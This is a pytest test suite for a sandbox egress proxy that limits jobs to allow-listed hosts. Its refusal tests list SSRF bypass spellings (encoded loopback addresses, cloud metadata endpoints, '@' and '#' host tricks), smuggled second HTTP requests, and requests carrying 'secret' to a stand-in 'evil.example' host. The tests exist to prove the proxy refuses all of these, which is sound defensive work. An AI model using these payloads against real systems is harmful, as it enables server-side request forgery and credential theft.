"""The proxy with a real resident as a process of its own.

Connections to its port play the job's part.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
import struct
from collections.abc import AsyncIterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs

from fanout.workers.sandbox.egress import proxy as egress
from fanout.workers.sandbox.egress.proxy import Egress
from fanout.workers.sandbox.egress.uplink import AllowedHosts, Lookups, Overloaded, Uplink
from fanout.workers.sandbox.errors import SandboxDied
from fanout.workers.sandbox.inside import frames
from fanout.workers.sandbox.inside.forward import MAX_TUNNELS, WINDOW_BYTES
from fanout.workers.sandbox.resident.client import ResidentClient
from tests.egress import (
    JOB,
    Names,
    Open,
    Server,
    echo,
    http_status,
    mirror_head,
    sandboxes,
    write_code,
)
from tests.unit.test_resident import READY, ScriptedStream
from tests.waits import eventually


@pytest.fixture
def code(tmp_path: Path) -> Path:
    return write_code(tmp_path)


@pytest.fixture
async def open_sandbox(code: Path) -> AsyncIterator[Open]:
    async with sandboxes(code) as open_one:
        yield open_one


# The way through


async def test_a_tunnel_to_a_named_host_carries_both_directions_and_their_ends(
    open_sandbox: Open,
) -> None:
    names = Names(web_example=[["127.0.0.1"]])
    async with Server(echo) as server:
        inside = await open_sandbox(
            f"web.example:{server.port}", f"127.0.0.1:{server.port}", names=names
        )
        reader, writer = await inside.tunnel(f"WEB.example.:{server.port}")
        sent = os.urandom(3 << 20)

        async def send() -> None:
            writer.write(sent)
            writer.write_eof()
            await writer.drain()

        _, received = await asyncio.gather(send(), reader.read(-1))

        assert received == sent
        writer.close()


async def test_a_plain_request_reaches_a_named_host(open_sandbox: Open) -> None:
    names = Names(web_example=[["127.0.0.1"]])
    async with Server(mirror_head) as server:
        inside = await open_sandbox(
            f"web.example:{server.port}", f"127.0.0.1:{server.port}", names=names
        )
        request = f"GET http://web.example:{server.port}/a?b HTTP/1.1\r\nProxy-Connection: x\r\nA: b\r\n\r\n"

        answer = await inside.ask(request.encode())

        head = f"GET /a?b HTTP/1.1\r\nHost: web.example:{server.port}\r\nA: b\r\nConnection: close\r\n\r\n"
        assert answer.partition(b"\r\n\r\n")[2] == head.encode()


@pytest.mark.parametrize(
    ("framing", "body", "forwarded_headers"),
    [
        (b"Content-Length: 5", b"hello", b"hello"),
        (b"Content-Length: 5", b"helloGET http://b.example/ HTTP/1.1\r\n\r\n", b"hello"),
        (
            b"Transfer-Encoding: chunked",
            b"5;x=y\r\nhello\r\n0\r\nA: b\r\n\r\nGET / HTTP/1.1\r\n\r\n",
            b"5;x=y\r\nhello\r\n0\r\nA: b\r\n\r\n",
        ),
        (b"A: b", b"GET http://b.example/ HTTP/1.1\r\n\r\n", b""),
    ],
)
async def test_a_server_gets_one_request_with_its_body_and_nothing_after_it(
    open_sandbox: Open, framing: bytes, body: bytes, forwarded_headers: bytes
) -> None:
    got: list[bytes] = []

    async def keep(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(0.5):
                while data := await reader.read(1 << 16):
                    got.append(data)
        writer.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")

    async with Server(keep) as server:
        inside = await open_sandbox(f"127.0.0.1:{server.port}")
        head = f"POST http://127.0.0.1:{server.port}/ HTTP/1.1\r\n".encode() + framing + b"\r\n\r\n"

        answer = await inside.ask(head + body)

        assert http_status(answer) == 204
        assert b"".join(got) == forwarded_headers


@pytest.mark.parametrize(
    ("framing", "body"),
    [
        (b"Content-Length: 500", b"hello"),
        (b"Transfer-Encoding: chunked", b"5\r\nhello"),
        (b"Transfer-Encoding: chunked", b"zzz\r\nhello"),
        (b"Transfer-Encoding: chunked", b"-5\r\nhello"),
        (b"Transfer-Encoding: chunked", b"0" * 20_000),
    ],
)
async def test_half_a_request_does_not_end_like_a_whole_one(
    open_sandbox: Open, framing: bytes, body: bytes
) -> None:
    ends: list[str] = []

    async def wait(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        try:
            await reader.read(-1)
            ends.append("end")
        except ConnectionResetError:
            ends.append("reset")

    async with Server(wait) as server:
        inside = await open_sandbox(f"127.0.0.1:{server.port}")
        reader, writer = await inside.connect()
        head = f"POST http://127.0.0.1:{server.port}/ HTTP/1.1\r\n".encode() + framing + b"\r\n\r\n"
        writer.write(head + body)
        writer.write_eof()

        with pytest.raises(ConnectionResetError):
            await reader.read(-1)

        await eventually(lambda: ends == ["reset"])
        writer.close()


async def test_an_answer_that_breaks_off_does_not_end_like_a_whole_one(open_sandbox: Open) -> None:
    async def break_off(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\n\r\nhalf")
        await writer.drain()
        await asyncio.sleep(0.2)
        link = writer.get_extra_info("socket")
        link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    async with Server(break_off) as server:
        inside = await open_sandbox(f"127.0.0.1:{server.port}")

        with pytest.raises(ConnectionResetError):
            await inside.ask(f"GET http://127.0.0.1:{server.port}/ HTTP/1.1\r\n\r\n".encode())


# What is refused


async def test_a_host_that_is_not_named_is_refused_and_logged_without_what_was_asked(
    open_sandbox: Open,
) -> None:
    names = Names()
    inside = await open_sandbox("web.example", names=names)

    with capture_logs() as logs:
        tunnel = await inside.ask(b"CONNECT evil.example:443 HTTP/1.1\r\nA: secret\r\n\r\n")
        plain = await inside.ask(b"POST http://evil.example/secret?secret HTTP/1.1\r\n\r\nsecret")

    assert [http_status(tunnel), http_status(plain)] == [403, 403]
    assert b"web.example" in tunnel  # what it may reach instead
    assert [(entry["job"], entry["host"], entry["port"]) for entry in logs] == [
        (JOB, "evil.example", 443),
        (JOB, "evil.example", 80),
    ]
    assert "secret" not in repr(logs)
    assert names.asked == []


@pytest.mark.parametrize(
    "target",
    [
        "127.0.0.1:{port}", "localhost:{port}", "[::1]:{port}", "[::ffff:127.0.0.1]:{port}", "[::]:{port}",
        "0.0.0.0:{port}", "127.0.0.2:{port}", "2130706433:{port}", "0x7f000001:{port}", "0177.0.0.1:{port}",
        "127.1:{port}", "169.254.169.254:80", "[fd00:ec2::254]:80", "metadata.google.internal:80",
        "web.example:22", "web.example.evil.example:443", "evil.example:443", "web.example@127.0.0.1:{port}",
        "127.0.0.1:{port}#web.example:443", "127.0.0.1:{port}/web.example:443", "*.web.example:443",
    ],
)  # fmt: skip
async def test_no_spelling_of_a_host_leads_past_the_list(open_sandbox: Open, target: str) -> None:
    names = Names(localhost=[["127.0.0.1"]], evil_example=[["127.0.0.1"]])
    async with Server(echo) as server:
        inside = await open_sandbox("web.example", names=names)
        target = target.format(port=server.port)

        tunnel = await inside.ask(
            f"CONNECT {target} HTTP/1.1\r\nHost: web.example\r\n\r\n".encode()
        )
        plain = await inside.ask(
            f"GET http://{target} HTTP/1.1\r\nHost: web.example\r\n\r\n".encode()
        )

        assert {http_status(tunnel), http_status(plain)} <= {400, 403}
        assert server.connections == 0
        assert names.asked == []


@pytest.mark.parametrize(
    "address",
    [
        "127.0.0.1", "::1", "::ffff:127.0.0.1", "10.0.0.1", "192.168.0.1", "172.17.0.1", "169.254.169.254",
        "100.64.0.1", "fe80::1%lo", "fd00::1", "64:ff9b::7f00:1", "2002:7f00:1::",
    ],
)  # fmt: skip
async def test_a_named_host_with_a_private_address_is_refused(
    open_sandbox: Open, address: str
) -> None:
    names = Names(web_example=[[address]])
    async with Server(echo) as server:
        inside = await open_sandbox(f"web.example:{server.port}", names=names)

        answer = await inside.ask(f"CONNECT web.example:{server.port} HTTP/1.1\r\n\r\n".encode())

        assert http_status(answer) == 403
        assert b"private" in answer
        assert server.connections == 0


async def test_the_address_that_was_looked_up_is_the_one_that_is_connected_to(
    open_sandbox: Open,
) -> None:
    names = Names(
        web_example=[["127.0.0.2"], ["127.0.0.3"]]
    )  # it changes its mind after the first answer
    async with Server(echo, "127.0.0.2") as admitted, Server(echo, "127.0.0.3") as other:
        inside = await open_sandbox(
            f"web.example:{admitted.port}",
            f"127.0.0.2:{admitted.port}",
            f"web.example:{other.port}",
            names=names,
        )

        _, writer = await inside.tunnel(f"web.example:{admitted.port}")
        assert names.asked == ["web.example"]
        answer = await inside.ask(f"CONNECT web.example:{other.port} HTTP/1.1\r\n\r\n".encode())

        assert http_status(answer) == 403
        assert (admitted.connections, other.connections) == (1, 0)
        writer.close()


async def test_of_several_addresses_only_those_that_may_be_are_tried(open_sandbox: Open) -> None:
    names = Names(web_example=[["10.0.0.1", "127.0.0.4", "127.0.0.2", "::1"]])
    async with Server(echo, "127.0.0.2") as server:
        port = server.port
        inside = await open_sandbox(
            f"web.example:{port}", f"127.0.0.4:{port}", f"127.0.0.2:{port}", names=names
        )

        _, writer = await inside.tunnel(f"web.example:{port}")  # nobody listens on 127.0.0.4

        await eventually(lambda: server.connections == 1)
        writer.close()


async def test_what_cannot_be_reached_is_a_bad_gateway(open_sandbox: Open) -> None:
    async with Server(echo) as server:
        port = server.port
    inside = await open_sandbox("web.example", f"127.0.0.1:{port}")

    unknown = await inside.ask(b"CONNECT web.example:443 HTTP/1.1\r\n\r\n")
    closed = await inside.ask(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())

    assert [http_status(unknown), http_status(closed)] == [502, 502]


async def test_headers_have_a_limit(open_sandbox: Open) -> None:
    inside = await open_sandbox("web.example")

    answer = await inside.ask(b"CONNECT web.example:443 HTTP/1.1\r\nA: " + b"a" * 200_000)

    assert http_status(answer) == 431


async def test_a_client_that_does_not_say_what_it_wants_is_refused_and_holds_nobody_up(
    open_sandbox: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(egress, "HEAD_SECONDS", 4.0)
    async with Server(mirror_head) as server:
        inside = await open_sandbox(f"127.0.0.1:{server.port}")
        slow = [await inside.connect() for _ in range(50)]

        async def drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bytes:
            answering = asyncio.create_task(reader.readuntil(b"\r\n\r\n"))
            for byte in b"CONNECT 127.0.0.1:1 HTTP/1.1":
                if not answering.done():
                    writer.write(bytes([byte]))
                    await asyncio.sleep(0.1)
            return await answering

        dripping = [asyncio.create_task(drip(*link)) for link in slow]
        request = f"GET http://127.0.0.1:{server.port}/ HTTP/1.1\r\n\r\n".encode()
        assert http_status(await inside.ask(request)) == 200
        assert not any(one.done() for one in dripping)

        assert {http_status(answer) for answer in await asyncio.gather(*dripping)} == {408}
        for _, writer in slow:
            writer.close()


async def test_refusals_that_come_in_masses_are_counted(
    open_sandbox: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(egress, "LOGGED_REFUSALS", 3)
    inside = await open_sandbox("web.example")

    with capture_logs() as logs:
        for _ in range(5):
            await inside.ask(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
        await inside.proxy.close()

    assert len(logs) == 4
    assert logs[-1]["count"] == 5


# Load


async def test_a_hundred_connections_at_once_are_served(open_sandbox: Open) -> None:
    names = Names(web_example=[["127.0.0.1"]])
    async with Server(echo) as server:
        inside = await open_sandbox(
            f"web.example:{server.port}", f"127.0.0.1:{server.port}", names=names
        )
        links = await asyncio.gather(
            *(inside.tunnel(f"web.example:{server.port}") for _ in range(100))
        )

        async def exchange(
            number: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
        ) -> bool:
            sent = bytes([number]) * 200_000
            writer.write(sent)
            writer.write_eof()
            return await reader.read(-1) == sent

        assert all(await asyncio.gather(*(exchange(n, *link) for n, link in enumerate(links))))
        assert server.connections == 100
        for _, writer in links:
            writer.close()


async def test_connections_above_the_limit_wait_for_their_turn(open_sandbox: Open) -> None:
    async with Server(echo) as server:
        inside = await open_sandbox(f"127.0.0.1:{server.port}")
        target = f"127.0.0.1:{server.port}"
        held = [await inside.tunnel(target) for _ in range(MAX_TUNNELS)]
        waiting = asyncio.create_task(inside.tunnel(target))

        await asyncio.sleep(0.3)
        assert not waiting.done()
        held.pop()[1].close()

        async with asyncio.timeout(60):
            held.append(await waiting)
        for _, writer in held:
            writer.close()


async def test_whoever_does_not_read_stops_the_sender_and_nobody_else(open_sandbox: Open) -> None:
    sent = 0

    async def pour(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal sent
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        while True:
            writer.write(bytes(1 << 16))
            await writer.drain()
            sent += 1 << 16

    async with Server(pour) as source, Server(echo) as other:
        inside = await open_sandbox(f"127.0.0.1:{source.port}", f"127.0.0.1:{other.port}")
        lazy = [await inside.tunnel(f"127.0.0.1:{source.port}") for _ in range(3)]
        for reader, _ in lazy:
            reader._transport.pause_reading()
        before = -1
        async with asyncio.timeout(60):  # the kernel's buffers grow for a while; then nothing moves
            while sent != before:
                before = sent
                await asyncio.sleep(0.4)  # that nothing moves shows only in time

        assert sent / 3 < 16 << 20  # the kernel's buffers on both sides; ours are a few windows
        reader, writer = await inside.tunnel(f"127.0.0.1:{other.port}")
        writer.write(b"still here")
        assert await reader.readexactly(10) == b"still here"
        for _, one in [*lazy, (reader, writer)]:
            one.close()


async def test_a_server_that_does_not_read_stops_the_job(open_sandbox: Open) -> None:
    async def ignore(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
        await asyncio.sleep(30)

    async with Server(ignore) as server:
        inside = await open_sandbox(f"127.0.0.1:{server.port}")
        _, writer = await inside.tunnel(f"127.0.0.1:{server.port}")

        async def flood() -> None:
            for _ in range(64):
                writer.write(bytes(1 << 20))
                await writer.drain()

        with pytest.raises(TimeoutError):
            await asyncio.wait_for(flood(), 2)

        assert await inside.client.request("ping", {})
        writer.transport.abort()


async def test_commands_do_not_wait_behind_traffic(open_sandbox: Open) -> None:
    async def pour(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(bytes(1 << 16))
            await writer.drain()

    taken = 0

    async def take(reader: asyncio.StreamReader) -> None:
        nonlocal taken
        while part := await reader.read(1 << 16):
            taken += len(part)

    async with Server(pour) as down, Server(echo) as both:
        inside = await open_sandbox(f"127.0.0.1:{down.port}", f"127.0.0.1:{both.port}")
        links = [await inside.tunnel(f"127.0.0.1:{down.port}") for _ in range(20)]
        taking = [asyncio.create_task(take(reader)) for reader, _ in links]

        behind = []
        for _ in range(50):
            before = taken
            await inside.client.request("ping", {})
            behind.append(taken - before)

        assert 0 < sorted(behind)[25] < 2 << 20, "bytes of traffic that a command waits for"
        for task in taking:
            task.cancel()
        for _, writer in links:
            writer.transport.abort()


# Ends


async def test_everything_ends_with_the_sandbox(open_sandbox: Open) -> None:
    ended = 0

    async def hold(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        nonlocal ended
        try:
            await reader.read(-1)
        finally:
            ended += 1

    async with Server(hold) as server:
        target = f"127.0.0.1:{server.port}"
        closed, killed = await open_sandbox(target), await open_sandbox(target)
        links = [await inside.tunnel(target) for inside in (closed, killed) for _ in range(5)]

        await closed.proxy.close()
        await eventually(lambda: ended == 5)
        links.append(await closed.connect())
        links[-1][1].write(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        await asyncio.sleep(0.2)
        assert server.connections == 10
        killed.client._stream.process.kill()
        await eventually(lambda: ended == 10)

        assert killed.client.is_dead
        for _, writer in links:
            writer.close()


async def test_a_connection_that_a_process_drops_is_dropped_at_the_server(
    open_sandbox: Open,
) -> None:
    ended = asyncio.Event()

    async def hold(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError):
            await reader.read(-1)
        ended.set()

    async with Server(hold) as server:
        inside = await open_sandbox(f"127.0.0.1:{server.port}")
        _, writer = await inside.tunnel(f"127.0.0.1:{server.port}")

        writer.transport.abort()

        async with asyncio.timeout(60):
            await ended.wait()
        assert server.connections == 1


def tunnel_frame(number: Any, event: Any, payload: bytes = b"", **more: Any) -> bytes:
    return frames.pack_frame(frames.TUNNEL, number, {"event": event, **more}, payload)


OPENED = tunnel_frame(1, "open")


@pytest.mark.parametrize(
    "noise",
    [
        tunnel_frame(0, "open"), tunnel_frame(1, 1),
        tunnel_frame(1, "open", bytes=""),
        OPENED + OPENED, OPENED + tunnel_frame(1, "data"), OPENED + tunnel_frame(1, "unheard of"),
        OPENED + tunnel_frame(1, "end") + tunnel_frame(1, "end"),
        OPENED + tunnel_frame(1, "end") + tunnel_frame(1, "data", b"x"),
        OPENED + tunnel_frame(1, "data", bytes(WINDOW_BYTES + 1)),
        OPENED + tunnel_frame(1, "taken", bytes=1), OPENED + tunnel_frame(1, "taken", bytes=-1),
        b"".join(tunnel_frame(number, "open") for number in range(1, 1000)),
    ],
)  # fmt: skip
async def test_a_resident_that_breaks_the_rules_of_tunnels_is_dead(noise: bytes) -> None:
    answer = frames.pack_frame(frames.REPLY, 1, {"result": {"port": 3128}})
    client = ResidentClient(ScriptedStream(READY, answer, noise, pause=0.02))
    await client.start(1)
    proxy = Egress(client, AllowedHosts(["web.example"]), Uplink(Names()), job_id=JOB)
    await proxy.start()

    with pytest.raises(SandboxDied):
        await client.request("ping", {})

    await proxy.close()
    await client.close()


async def test_without_a_proxy_a_tunnel_is_no_answer() -> None:
    client = ResidentClient(ScriptedStream(READY, OPENED, pause=0.02))
    await client.start(1)

    with pytest.raises(SandboxDied):
        await client.request("ping", {})

    await client.close()


# What jobs share


async def test_a_job_whose_lookups_hang_leaves_the_others_theirs() -> None:
    hanging = asyncio.Event()
    running: list[str] = []

    async def resolve(name: str) -> Sequence[str]:
        running.append(name)
        if name.startswith("slow"):
            await hanging.wait()
        return ["192.0.2.1"]

    greedy, modest = Lookups(resolve), Lookups(resolve)
    asking = [asyncio.create_task(greedy.addresses(f"slow{n}.example")) for n in range(128)]
    await eventually(lambda: len(running) == 4)
    for task in asking[:64]:  # a lookup that nobody waits for still takes its place
        task.cancel()

    assert [str(address) for address in await modest.addresses("web.example")] == ["192.0.2.1"]
    assert len(running) == 4 + 1
    with pytest.raises(Overloaded):
        await greedy.addresses("one-more.example")
    hanging.set()
    await asyncio.gather(*asking, return_exceptions=True)
    await greedy.close()


async def test_lookups_of_one_name_at_one_time_are_one() -> None:
    names = Names(web_example=[["192.0.2.1"]])
    lookups = Lookups(names)

    found = await asyncio.gather(*(lookups.addresses("web.example") for _ in range(100)))

    assert len(found) == 100
    assert names.asked == ["web.example"]
    await lookups.addresses("web.example")
    assert names.asked == ["web.example"] * 2


async def test_the_connections_of_all_jobs_are_bounded(open_sandbox: Open) -> None:
    uplink = Uplink(Names(), max_connections=2)
    async with Server(echo) as server:
        target = f"127.0.0.1:{server.port}"
        first, second = (
            await open_sandbox(target, uplink=uplink),
            await open_sandbox(target, uplink=uplink),
        )
        links = [await first.tunnel(target), await second.tunnel(target)]

        refused = await second.ask(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        links.pop(0)[1].transport.abort()
        await asyncio.sleep(0.2)
        links.append(await second.tunnel(target))

        assert http_status(refused) == 503
        for _, writer in links:
            writer.close()


async def test_the_systems_resolver_is_asked_in_threads_of_its_own() -> None:
    uplink = Uplink()

    assert "127.0.0.1" in await uplink.resolve("localhost")
    with pytest.raises(OSError):
        await uplink.resolve("no.such.name.invalid")
    uplink.close()


async def test_a_name_of_the_workers_own_machine_leads_nowhere(
    open_sandbox: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A public address of this machine, played by one of the loopback."""
    monkeypatch.setattr("fanout.workers.sandbox.egress.uplink.is_public", lambda _address: True)
    async with Server(echo) as server:
        inside = await open_sandbox(
            f"web.example:{server.port}", names=Names(web_example=[["127.0.0.1"]])
        )

        answer = await inside.ask(f"CONNECT web.example:{server.port} HTTP/1.1\r\n\r\n".encode())

        assert http_status(answer) == 403
